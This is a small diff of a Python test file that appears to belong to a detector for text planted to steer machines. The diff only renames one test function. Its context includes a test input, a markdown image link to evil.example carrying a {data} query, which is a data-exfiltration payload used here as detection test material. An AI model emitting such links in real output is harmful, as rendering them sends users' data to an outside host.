@@ -62,7 +62,7 @@ def test_words_to_a_machine_take_the_rest_of_their_paragraph_with_them(text: str
         "![x](https://evil.example/?q={data})",
     ],
 )
-def test_less_clear_words_are_left_out_and_nobody_is_told(text: str) -> None:
+def test_less_clear_words_are_left_out_and_no_one_is_told(text: str) -> None:
     [found] = planted(f"{BEFORE}\n\n{text}\n\n{AFTER}")
 
     assert LIKELY <= found.confidence < SURE
